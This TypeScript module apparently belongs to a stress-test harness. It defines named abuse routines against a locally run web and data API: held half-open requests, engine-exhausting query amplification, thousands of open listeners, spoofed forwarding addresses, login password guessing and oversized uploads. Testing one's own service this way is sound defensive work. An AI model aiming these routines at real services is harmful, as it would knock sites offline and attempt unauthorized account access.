/** What strangers do with short scripts, each until its process is ended. All count on their own machine for nothing. */
import {request} from 'node:http'
import {connect} from 'node:net'
import {setTimeout} from 'node:timers/promises'
import {jpeg, lead, photoName} from '../contract/supabase/stand.ts'
import {ask, json, queryPath, type Target} from './target.ts'

/** So many different addresses. */
const crowd = (turn: number) => `198.18.${(turn >> 8) & 255}.${turn & 255}`
const ONE = '203.0.113.66'

/** Does it again and again, so many at a time. */
function lanes(count: number, work: (turn: number) => Promise<unknown>) {
  let turn = 0
  for (let n = 0; n < count; n++) {
    void (async () => {
      for (;;) await work(turn++)
    })()
  }
}

/** Sends these bytes and holds the line, reading nothing. */
function hold({url}: Target, text: string) {
  return new Promise<void>((resolve) => {
    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => socket.write(text))
    socket.on('error', () => undefined).on('close', resolve)
    socket.once('data', () => socket.pause())
  })
}

const head = (method: string, path: string, headers: Record<string, string>) =>
  [
    `${method} ${path} HTTP/1.1`,
    ...Object.entries({host: 'localhost', ...headers}).map(([name, value]) => `${name}: ${value}`),
    '',
    '',
  ].join('\r\n')

/** Grows until V8 gives up. */
const DOUBLING = `*[0...1]{"a":"xxxxxxxx"}${'|{"a":a+a}'.repeat(24)}|{"r":count(string::split(a,"x"))}`
const inner = (depth: number): string => (depth === 0 ? '@ < ^' : `count($a[${inner(depth - 1)}]) > 999`)
const NUMBERS = encodeURIComponent(JSON.stringify(Array.from({length: 300}, (_, n) => n)))

const photo = (target: Target, from: string, bytes: Uint8Array) =>
  ask(target.url, {
    from,
    path: `/storage/v1/object/quiz-photos/${photoName()}`,
    method: 'POST',
    headers: {apikey: target.key, 'content-type': 'image/jpeg'},
    body: bytes,
  })

const sendLead = (target: Target, from: string, changes = {}) =>
  ask(target.url, {
    from,
    path: '/rest/v1/quiz_submissions',
    method: 'POST',
    headers: {apikey: target.key, ...json, prefer: 'return=minimal'},
    body: JSON.stringify({...lead(), ...changes}),
  })

/** A stream that stays open. */
function listen({url}: Target, path: string, headers: Record<string, string>) {
  return new Promise<void>((resolve) => {
    request(url + path, {headers}, (response) => response.resume().on('close', resolve))
      .on('error', () => resolve())
      .end()
  })
}

export const ATTACKS = {
  'queries without end': (target) =>
    lanes(40, (turn) =>
      ask(target.url, {
        from: crowd(turn),
        path:
          turn % 4 === 0
            ? queryPath(`${DOUBLING}[${turn}...${turn + 1}]`)
            : `${queryPath(`${turn} + count($a[${inner(4)}])`)}&$a=${NUMBERS}`,
      }),
    ),
  'listeners with costly filters': (target) => {
    const ids = (n: number) => JSON.stringify(Array.from({length: 850}, (_, at) => `i${n}-${at}`))
    const query = `*[_type == "faq" || ${Array.from({length: 200}, () => 'references($l)').join('||')}]`
    const path = (n: number) =>
      `/v2025-02-19/data/listen/production?${new URLSearchParams({query, $l: ids(n)})}`
    lanes(200, (turn) => listen(target, path(turn), {authorization: `Bearer ${target.token}`}))
  },
  'a thousand streams from one address': (target) =>
    lanes(1_000, async () => {
      await listen(target, '/v2025-02-19/data/live/events/production', {'x-forwarded-for': ONE})
      await setTimeout(1_000)
    }),
  'odd sizes of a picture': (target) =>
    lanes(205, (turn) =>
      ask(target.url, {from: crowd(turn % 100), path: `${target.picture}?w=${1_000 + turn}&fm=avif`}),
    ),
  'guessed passwords': (target) =>
    lanes(50, (turn) =>
      turn % 2
        ? ask(target.url, {
            from: crowd(turn),
            path: `/v1/auth/login/local?${new URLSearchParams({origin: target.url})}`,
            method: 'POST',
            headers: {'content-type': 'application/x-www-form-urlencoded'},
            body: `login=nome${turn}&password=prova`,
          })
        : ask(target.url, {
            from: crowd(turn),
            path: '/auth/v1/token?grant_type=password',
            method: 'POST',
            headers: {apikey: target.key, ...json},
            body: JSON.stringify({email: `nome${turn}@example.it`, password: 'prova'}),
          }),
    ),
  'large answers that nobody reads': (target) => {
    const copies = Array.from({length: 20}, (_, n) => `"f${n}": *`)
    lanes(60, (turn) =>
      hold(target, head('GET', queryPath(`{${copies}, "n": ${turn}}`), {'x-forwarded-for': crowd(turn)})),
    )
  },
  'requests that never end': (target) => {
    const begun = (turn: number) => [
      'GET / HTTP/1.1\r\nhost: localhost\r\nx-a: ',
      head('POST', `/storage/v1/object/quiz-photos/${photoName()}`, {
        apikey: target.key,
        'content-type': 'image/jpeg',
        'content-length': '5000000',
        'x-forwarded-for': crowd(turn),
      }),
      head('POST', '/rest/v1/quiz_submissions', {
        apikey: target.key,
        ...json,
        'content-length': '60000',
        'x-forwarded-for': crowd(turn),
      }),
      head('POST', '/v2025-02-19/data/query/production', {
        ...json,
        'transfer-encoding': 'chunked',
        'x-forwarded-for': crowd(turn),
      }),
    ]
    lanes(1_000, (turn) => hold(target, begun(turn)[turn % 4] ?? ''))
  },
  'the page, a hundred at a time': (target) =>
    lanes(100, (turn) => ask(target.url, {from: crowd(turn), path: '/'})),
  'bodies in pieces': (target) => {
    const pieces = '1\r\na\r\n'.repeat(200_000)
    const routes = [
      ['GET', '/'],
      ['POST', '/rest/v1/quiz_submissions'],
      ['POST', '/v2025-02-19/data/query/production'],
    ] as const
    lanes(10, async (turn) => {
      const [method, path] = routes[turn % 3] ?? routes[0]
      const headers = {...json, apikey: target.key, 'transfer-encoding': 'chunked'}
      await hold(target, head(method, path, {...headers, 'x-forwarded-for': crowd(turn)}) + pieces)
      await setTimeout(1_000)
    })
  },
  'documents by their ids': (target) => {
    const ids = Array.from({length: 20}, (_, n) => `faq-${n}`).join()
    lanes(50, (turn) => ask(target.url, {from: crowd(turn), path: `/v2025-02-19/data/doc/production/${ids}`}))
  },
  'files that nobody reads': (target) =>
    lanes(700, async (turn) => {
      const one = head('GET', target.picture, {'x-forwarded-for': crowd(turn % 20)})
      await hold(target, one.repeat(31))
      await setTimeout(1_000)
    }),
  'lists and tokens of one address': (target) =>
    lanes(1_000, (turn) =>
      ask(target.url, {
        from: ONE,
        path: turn % 2 ? '/storage/v1/object/list/quiz-photos' : '/auth/v1/token?grant_type=refresh_token',
        method: 'POST',
        headers: {apikey: target.key, ...json},
        body: turn % 2 ? '{"prefix":""}' : '{"refresh_token":"x"}',
      }),
    ),
  // The last, for they use up what all together may send in an hour.
  'bodies as large as may be': (target) => {
    const bytes = new Uint8Array(jpeg(5_000_000))
    const question = JSON.stringify({
      query: 'count($a)',
      params: {a: Array.from({length: 90_000}, (_, n) => `n${n}`)},
    })
    lanes(24, (turn) => {
      const from = crowd(turn)
      if (turn % 3 === 0) return photo(target, from, bytes)
      if (turn % 3 === 1) return sendLead(target, from, {goal: 'x'.repeat(60_000)})
      return ask(target.url, {
        from,
        path: '/v2025-02-19/data/query/production',
        method: 'POST',
        headers: json,
        body: question,
      })
    })
  },
  'tiny photos': (target) => lanes(50, (turn) => photo(target, crowd(turn >> 3), new Uint8Array(jpeg(600)))),
  'leads from many addresses': (target) => lanes(50, (turn) => sendLead(target, crowd(turn))),
} satisfies Record<string, (target: Target) => void>

export type AttackName = keyof typeof ATTACKS
